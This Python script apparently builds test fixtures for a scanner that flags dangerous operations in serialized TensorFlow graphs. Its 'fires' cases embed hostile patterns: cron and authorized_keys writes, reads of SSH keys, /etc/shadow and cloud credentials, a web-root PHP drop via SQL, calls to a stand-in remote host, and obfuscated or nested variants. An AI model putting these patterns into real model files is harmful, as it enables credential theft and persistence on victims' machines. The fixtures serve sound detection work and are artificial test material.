"""Makes the files of testdata/golden/ma-tensorflow that need TensorFlow itself. Usage: make_attacks.py OUT

Made with tensorflow-cpu 2.21. Functions are traced and serialised, never called: nothing of what they
would do is done. Payloads are `echo pwned`.
"""
import os, shutil, sys
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["CUDA_VISIBLE_DEVICES"] = ""
import tensorflow as tf
raw = tf.raw_ops
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops as rpc_ops
from tensorflow.compiler.tf2xla.ops import gen_xla_ops
from tensorflow.python.ops import gen_data_flow_ops, gen_io_ops
OUT = sys.argv[1]
S = lambda *shape: tf.TensorSpec(list(shape), tf.string)
F = lambda *shape: tf.TensorSpec(list(shape), tf.float32)


def graph(rule, name, function, *specs):
    """A bare GraphDef with one function that the main graph calls."""
    concrete = tf.function(function, input_signature=specs).get_concrete_function()
    folder = os.path.join(OUT, rule)
    os.makedirs(folder, exist_ok=True)
    definition = concrete.graph.as_graph_def()
    definition.versions.Clear()
    with open(os.path.join(folder, name), "wb") as f:
        f.write(definition.SerializeToString(deterministic=True))
    return definition


def numbers():
    return tf.data.Dataset.range(3)._variant_tensor


def both(rule, name, make, bad, good, *specs):
    graph(rule, f"fires-{name}.pb", lambda *a: make(bad, *a), *specs)
    graph(rule, f"silent-{name}.pb", lambda *a: make(good, *a), *specs)


def one(rule, name, make, *specs):
    graph(rule, f"fires-{name}.pb", make, *specs)


def write_files():
    rule = "tensorflow-file-write"
    def write(path, x):
        raw.WriteFile(filename=path, contents="* * * * * root echo pwned\n")
        return x + 1.0
    one(rule, "write-file", lambda x: write("/etc/cron.d/x", x), F())
    one(rule, "joined", lambda x: write(tf.strings.join(["/etc", tf.strings.reduce_join(["cr", "on.d"]), "x"], "/"), x), F())
    one(rule, "base64", lambda x: write(tf.io.decode_base64("L2V0Yy9jcm9uLmQveA"), x), F())
    one(rule, "caller", lambda p: write(p, tf.constant(1.0)), S())
    def inner(x):
        deep = tf.function(lambda p, y: write(p, y))
        return deep(tf.identity(tf.constant("/root/.ssh/authorized_keys")), x)
    one(rule, "through-functions", inner, F())
    def printed(stream, x):
        raw.PrintV2(input="import os", output_stream=stream, end="")
        return x + 1.0
    both(rule, "print", printed, "file:///usr/lib/python3/dist-packages/sitecustomize.py", "stderr", F())
    def cache(name, x):
        d = raw.CacheDatasetV2(input_dataset=numbers(), filename=name, cache=raw.DummyMemoryCache(), output_types=[tf.int64], output_shapes=[[]])
        return x + tf.cast(raw.DatasetCardinality(input_dataset=d), tf.float32)
    both(rule, "cache", cache, "/var/www/html/x", "", F())
    def summary(x):
        w = raw.SummaryWriter(shared_name="", container="")
        raw.CreateSummaryFileWriter(writer=w, logdir="/var/spool/cron", max_queue=1, flush_millis=1, filename_suffix=".x")
        return x + 1.0
    one(rule, "summary-writer", summary, F())
    def snapshot(x):
        identity = tf.function(lambda d: d, input_signature=[tf.TensorSpec([], tf.variant)]).get_concrete_function()
        shard = tf.function(lambda e: tf.constant(0, tf.int64), input_signature=[tf.TensorSpec([], tf.int64)]).get_concrete_function()
        d = raw.SnapshotDatasetV2(input_dataset=numbers(), path="/opt/app/snapshot", reader_func_other_args=[], shard_func_other_args=[], reader_func=identity, shard_func=shard, output_types=[tf.int64], output_shapes=[[]])
        return x + tf.cast(raw.DatasetCardinality(input_dataset=d), tf.float32)
    one(rule, "snapshot", snapshot, F())
    def save_dataset(x):
        shard = tf.function(lambda e: tf.constant(0, tf.int64), input_signature=[tf.TensorSpec([], tf.int64)]).get_concrete_function()
        raw.SaveDatasetV2(input_dataset=numbers(), path="~/data", shard_func_other_args=[], shard_func=shard, output_types=[tf.int64], output_shapes=[[]])
        return x + 1.0
    one(rule, "save-dataset", save_dataset, F())
    def records(x):
        raw.DatasetToTFRecord(input_dataset=raw.TensorSliceDataset(components=[tf.constant(["a"])], output_shapes=[[]]), filename="../../x.tfrecord", compression_type="")
        return x + 1.0
    one(rule, "tfrecord", records, F())
    def debug(urls, x):
        return raw.DebugIdentityV3(input=x, device_name="", tensor_name="", io_of_node="", io_index=-1, debug_urls=urls)
    both(rule, "debug", debug, ["file:///var/www/html"], [], F())


def read_files():
    rule = "tensorflow-file-read"
    one(rule, "read-file", lambda: raw.ReadFile(filename="/root/.ssh/id_rsa"))
    one(rule, "relative", lambda: raw.ReadFile(filename="vocab.txt"))
    one(rule, "caller", lambda p: raw.ReadFile(filename=p), S())
    one(rule, "matching-files", lambda: raw.MatchingFiles(pattern="/home/*/.aws/*"))
    one(rule, "text-lines", lambda: tf.raw_ops.DatasetCardinality(input_dataset=raw.TextLineDataset(filenames=["/etc/passwd"], compression_type="", buffer_size=0)))
    def table():
        t = raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="t")
        raw.InitializeTableFromTextFileV2(table_handle=t, filename="/etc/shadow", key_index=0, value_index=-1, delimiter=":")
        return raw.LookupTableFindV2(table_handle=t, keys=tf.constant(["root"]), default_value=tf.constant(-1, tf.int64))
    one(rule, "table", table)
    def sql(query):
        return raw.DatasetCardinality(input_dataset=raw.SqlDataset(driver_name="sqlite", data_source_name="/var/lib/app.db", query=query, output_types=[tf.string], output_shapes=[[]]))
    one(rule, "sql", lambda: sql("SELECT name FROM users"))
    one(rule, "sql-writes", lambda: sql("ATTACH DATABASE '/var/www/html/x.php' AS x"))
    def reader(make, path):
        r = make()
        q = raw.FIFOQueueV2(component_types=[tf.string])
        raw.QueueEnqueueV2(handle=q, components=[tf.constant(path)])
        return raw.ReaderReadV2(reader_handle=r, queue_handle=q)
    one(rule, "whole-file-reader", lambda: reader(raw.WholeFileReaderV2, "/home/x/.kube/config"))
    one(rule, "memory-map", lambda: raw.ImmutableConst(dtype=tf.uint8, shape=[16], memory_region_name="/etc/hostname"))
    one(rule, "descriptors", lambda b: raw.DecodeProtoV2(bytes=b, message_type="M", field_names=["f"], output_types=[tf.string], descriptor_source="/opt/x.pb"), S(None))
    graph(rule, "silent-descriptors.pb", lambda b: raw.DecodeProtoV2(bytes=b, message_type="M", field_names=["f"], output_types=[tf.string], descriptor_source="local://"), S(None))
    graph(rule, "silent-parse.pb", lambda b: raw.DecodeJpeg(contents=b), S())
    g = tf.Graph()
    with g.as_default():
        r = gen_io_ops.lmdb_reader()
        q = gen_data_flow_ops.fifo_queue(component_types=[tf.string])
        gen_data_flow_ops.queue_enqueue_many(q, [tf.constant(["/data/a.mdb", "/data/b.mdb"])])
        gen_io_ops.reader_read(r, q)
    definition = g.as_graph_def()
    definition.versions.Clear()
    with open(os.path.join(OUT, rule, "fires-lmdb-reader.pb"), "wb") as f:
        f.write(definition.SerializeToString(deterministic=True))


def network():
    rule = "tensorflow-network"
    def service(address, x):
        counter = raw.DummyIterationCounter()
        d = raw.DataServiceDatasetV4(dataset_id="1", processing_mode="parallel_epochs", address=address, protocol="grpc", job_name="", consumer_index=-1, num_consumers=-1, max_outstanding_requests=1, iteration_counter=counter, output_types=[tf.int64], output_shapes=[[]], uncompress_fn=_identity())
        return x + tf.cast(raw.DatasetCardinality(input_dataset=d), tf.float32)
    one(rule, "data-service", lambda x: service("192.0.2.7:5000", x), F())
    def register(x):
        raw.RegisterDatasetV2(dataset=numbers(), address="192.0.2.7:5000", protocol="grpc", external_state_policy=0)
        return x + 1.0
    one(rule, "register", register, F())
    def client(x):
        c, _ = rpc_ops.rpc_client(server_address="192.0.2.7:9000", timeout_in_ms=100, shared_name="")
        rpc_ops.rpc_call(client=c, method_name="m", args=[x], timeout_in_ms=100)
        return x + 1.0
    one(rule, "rpc-client", client, F())
    def remote(target, x):
        return raw.RemoteCall(target=target, args=[x], Tout=[tf.float32], f=_plus())[0]
    both(rule, "remote-call", remote, "/job:evil/replica:0/task:0/device:CPU:0", "/job:localhost/replica:0/task:0/device:CPU:0", F())
    def settings(x):
        raw.FileSystemSetConfiguration(scheme="s3", key="endpoint", value="192.0.2.7:80")
        return x + 1.0
    one(rule, "file-system", settings, F())
    def debug(urls, x):
        return raw.DebugIdentityV3(input=x, device_name="", tensor_name="", io_of_node="", io_index=-1, debug_urls=urls)
    one(rule, "debug", lambda x: debug(["grpc://192.0.2.7:6064"], x), F())


def _plus():
    return tf.function(lambda y: y + 1.0, input_signature=[F()]).get_concrete_function()


def _identity():
    return tf.function(lambda y: y, input_signature=[tf.TensorSpec([], tf.int64)]).get_concrete_function()


def other():
    def rpc(x):
        server = rpc_ops.rpc_server(server_address="0.0.0.0:9000")
        rpc_ops.rpc_server_register(server=server, method_name="run", captured_inputs=[], f=_plus(), output_specs="", input_specs="")
        rpc_ops.rpc_server_start(server=server)
        return x + 1.0
    one("tensorflow-rpc-server", "listens", rpc, F())
    graph("tensorflow-rpc-server", "silent-plus.pb", lambda x: x + 1.0, F())
    def python(x):
        return tf.py_function(lambda y: y, [x], tf.float32)
    one("tensorflow-python-function", "py-function", python, F())
    graph("tensorflow-python-function", "silent-function.pb", lambda x: _plus()(x), F())
    def custom(name, x):
        return gen_xla_ops.xla_custom_call_v2(operands=[x], call_target_name=name, backend_config="echo pwned", has_side_effect=True, result_dtypes=[tf.float32], result_shapes=[[]])[0]
    one("tensorflow-native-call", "custom-call", lambda x: custom("system", x), F())
    graph("tensorflow-native-call", "silent-none.pb", lambda x: x * 2.0, F())
    def abort(x):
        raw.Abort(error_msg="bye", exit_without_error=True)
        return x + 1.0
    one("tensorflow-stops-process", "abort", abort, F())
    def loop(condition, x):
        return raw.StatelessWhile(input=[x], cond=condition, body=_plus())[0]
    forever = tf.function(lambda y: tf.constant(True), input_signature=[F()]).get_concrete_function()
    small = tf.function(lambda y: y < 10.0, input_signature=[F()]).get_concrete_function()
    both("tensorflow-stops-process", "loop", loop, forever, small, F())
    nested = graph("tensorflow-hidden-graph", "x.pb", lambda: _write_dataset())
    os.remove(os.path.join(OUT, "tensorflow-hidden-graph", "x.pb"))
    from tensorflow.core.framework import graph_pb2
    definition = graph_pb2.GraphDef()
    definition.CopyFrom(nested)
    definition.node.add(name="_retval", op="_Retval", input=["DatasetCardinality"])
    def from_graph(x):
        d = raw.DatasetFromGraph(graph_def=tf.constant(definition.SerializeToString(deterministic=True)))
        return x + tf.cast(raw.DatasetCardinality(input_dataset=d), tf.float32)
    one("tensorflow-hidden-graph", "nested-write", from_graph, F())
    graph("tensorflow-hidden-graph", "silent-range.pb", lambda x: x + tf.cast(raw.DatasetCardinality(input_dataset=numbers()), tf.float32), F())
    def save(prefix, x):
        raw.SaveV2(prefix=prefix, tensor_names=["x"], shape_and_slices=[""], tensors=[x])
        return x + 1.0
    one("tensorflow-checkpoint-path", "save", lambda x: save("/etc/cron.d/x", x), F())
    graph("tensorflow-checkpoint-path", "silent-caller.pb", lambda p, x: save(p, x), S(), F())
    one("tensorflow-checkpoint-path", "merge", lambda x: (raw.MergeV2Checkpoints(checkpoint_prefixes=["/home/x/a"], destination_prefix="/home/x/b"), x + 1.0)[1], F())


def _write_dataset():
    def write(n):
        raw.WriteFile(filename="/root/.bashrc", contents="echo pwned")
        return n
    mapped = tf.data.Dataset.range(3).map(write)
    return raw.DatasetCardinality(input_dataset=mapped._variant_tensor)


write_files()
read_files()
network()
other()
